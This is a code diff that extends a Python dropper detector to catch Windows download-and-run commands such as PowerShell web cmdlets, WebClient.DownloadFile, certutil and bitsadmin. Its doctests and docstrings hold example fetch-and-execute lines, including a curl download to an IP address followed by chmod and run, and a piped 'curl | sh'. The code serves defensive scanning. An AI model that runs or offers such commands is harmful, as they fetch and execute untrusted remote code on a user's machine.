@@ -7,6 +7,11 @@ and documentation apply to both spellings. Only a run of that very file counts: 
 path (``./app``, ``/tmp/app``, ``$DIR/app``) or as an interpreter's script argument
 (``bash install.sh``, ``source env.sh``, ``python3 setup.py``).
 
+Windows spells the same dropper with ``Invoke-WebRequest URL -OutFile $env:TEMP\\a.exe``,
+``(New-Object Net.WebClient).DownloadFile(URL, $p)``, ``Start-BitsTransfer``,
+``certutil -urlcache -f URL a.exe`` or ``bitsadmin /transfer``, and runs the file with
+``Start-Process``, ``&``, ``start`` or its path (``%TEMP%\\a.exe``, ``.\\a.exe``).
+
 >>> pipe_equivalents("curl -sO http://203.0.113.9/pl\\nchmod +x pl; ./pl").splitlines()[0]
 'curl -sO http://203.0.113.9/pl ; curl http://203.0.113.9/pl | sh'
 >>> pipe_equivalents("curl -o data.json https://x.invalid/d\\njq . data.json")
@@ -24,6 +29,16 @@ RUN_WINDOW = 40
 _FETCH = re.compile(r"\b(curl|wget)[ \t]+([^\n|;&]*)")
 _URL = re.compile(r"""^["']?(https?://[^\s"'`<>]+)""")
 _SAFE_NAME = re.compile(r"^[\w.+-]{2,80}$")
+_WINDOWS_FETCH = re.compile(
+    r"(?i:\b(?:Invoke-WebRequest|iwr|curl|wget)\b(?=[^\n]*-OutFile\b)(?P<cmdlet>[^\n|;]*)"
+    r"|\bStart-BitsTransfer\b(?P<bits>[^\n|;]*)"
+    r"|\.DownloadFile(?:Async)?\s*\(\s*[\"']?(?P<client_url>https?://[^\s\"']+)[\"']?\s*,\s*(?P<client_to>[^)\s]+)"
+    r"|\bcertutil(?:\.exe)?\s+[^\n]*-urlcache\b[^\n]*?(?P<cert_url>https?://\S+)\s+(?P<cert_to>\S+)"
+    r"|\bbitsadmin(?:\.exe)?\s+/transfer\s+\S+\s+(?:/\w+\s+)*(?P<admin_url>https?://\S+)\s+(?P<admin_to>\S+))"
+)
+"""PowerShell and cmd downloads that write a file: web cmdlets with ``-OutFile``, BITS,
+WebClient's ``DownloadFile`` and the certutil/bitsadmin living-off-the-land forms."""
+_PS_VARIABLE = re.compile(r"^\$\w+$")
 _INTERPRETERS = r"(?:(?:ba|z|da|k)?sh|source|\.|python[\d.]*|node|perl|ruby|php)"
 
 
@@ -44,13 +59,47 @@ def saved_downloads(lines: list[str]) -> list[SavedDownload]:
     """
     found = []
     for number, line in enumerate(lines, 1):
-        if "curl" not in line and "wget" not in line:
-            continue
-        for match in _FETCH.finditer(line):
-            url, target = _url_and_target(match.group(1), match.group(2).split())
-            name = target.rstrip("/").rsplit("/", 1)[-1].strip("\"'") if target else ""
-            if url and _SAFE_NAME.match(name):
-                found.append(SavedDownload(number, url, name))
+        if "curl" in line or "wget" in line:
+            for match in _FETCH.finditer(line):
+                url, target = _url_and_target(match.group(1), match.group(2).split())
+                name = _file_name(target)
+                if url and _SAFE_NAME.match(name):
+                    found.append(SavedDownload(number, url, name))
+        if "://" in line:
+            found += _windows_downloads(number, line)
+    return found
+
+
+def _file_name(target: str) -> str:
+    """The last part of a path written with ``/`` or ``\\`` (``%TEMP%\\a.exe``: ``a.exe``)."""
+    return re.split(r"[/\\]", target.strip("\"'").rstrip("/\\"))[-1] if target else ""
+
+
+def _windows_downloads(number: int, line: str) -> list[SavedDownload]:
+    r"""The files PowerShell or cmd downloads on ``line`` write; a PowerShell variable that
+    holds the path (``$p``) stands for the file under its own name.
+
+    >>> _windows_downloads(1, "iwr https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe")
+    [SavedDownload(line=1, url='https://x.invalid/a.exe', name='a.exe')]
+    >>> _windows_downloads(1, "(New-Object Net.WebClient).DownloadFile('https://x.invalid/a', $p)")
+    [SavedDownload(line=1, url='https://x.invalid/a', name='$p')]
+    """
+    found = []
+    for match in _WINDOWS_FETCH.finditer(line):
+        groups = match.groupdict()
+        options = groups["cmdlet"] or groups["bits"]
+        if options is not None:
+            url_match = re.search(r"https?://[^\s\"'`)]+", options)
+            target = re.search(r"(?i)-(?:OutFile|Destination)\s+(\"[^\"]+\"|'[^']+'|\S+)", options)
+            url = url_match.group(0) if url_match else ""
+            target_text = target.group(1) if target else ""
+        else:
+            url = groups["client_url"] or groups["cert_url"] or groups["admin_url"]
+            target_text = groups["client_to"] or groups["cert_to"] or groups["admin_to"]
+        target_text = target_text.strip("\"'")
+        name = target_text if _PS_VARIABLE.match(target_text) else _file_name(target_text)
+        if url and (_SAFE_NAME.match(name) or _PS_VARIABLE.match(name)):
+            found.append(SavedDownload(number, url, name))
     return found
 
 
@@ -87,10 +136,26 @@ _COMMAND_START = r"^|[;&|`]\s*|(?<![\w.])\(\s*|\b(?:then|do|sudo|exec|nohup)\s+"
 function call's ``TTFont('x')`` is not one) or a keyword that runs what follows."""
 
 
+_WINDOWS_RUN = (
+    r"(?:^|[;&|]\s*|\b)(?:Start-Process\s+(?:-FilePath\s+)?|Invoke-Item\s+|start\s+(?:/\w+\s+|\"\"\s+)*)"
+    r"|(?:^|[;|]\s*)&\s*"
+)
+"""How PowerShell and cmd start a program file: ``Start-Process``, ``start``, the call
+operator ``&``."""
+
+
 def _runs(name: str, text: str) -> bool:
     """``text`` runs the file ``name``: by a path to it, or as an interpreter's script (a
     command in a Markdown code span starts and ends at its backticks)."""
     escaped = re.escape(name)
+    if _PS_VARIABLE.match(name):
+        return bool(re.search(rf"(?i:{_WINDOWS_RUN})[\"']?{escaped}\b", text, re.M))
+    windows = (  # started by a command, or by a path written with backslashes
+        rf"(?:(?i:{_WINDOWS_RUN})[\"']?(?:[^\s;&|\"']*\\)?|(?:{_COMMAND_START})[\"']?[^\s;&|\"']*\\)"
+        rf"{escaped}(?=$|[\s;&|)\"'`])"
+    )
+    if re.search(windows, text, re.M):
+        return True
     by_path = (
         rf"(?:{_COMMAND_START})"
         rf"[\"']?(?:\./|~/|/|\$\{{?\w+\}}?/)(?:[^\s;&|/]+/)*{escaped}(?=$|[\s;&|)\"'`])"
@@ -104,7 +169,7 @@ def _runs(name: str, text: str) -> bool:
 
 def pipe_equivalents(text: str) -> str:
     """``text`` with ``; curl URL | sh`` appended to each download that is later run."""
-    if "curl" not in text and "wget" not in text:
+    if "curl" not in text and "wget" not in text and "://" not in text:
         return text
     lines = text.split("\n")
     downloads = saved_downloads(lines)
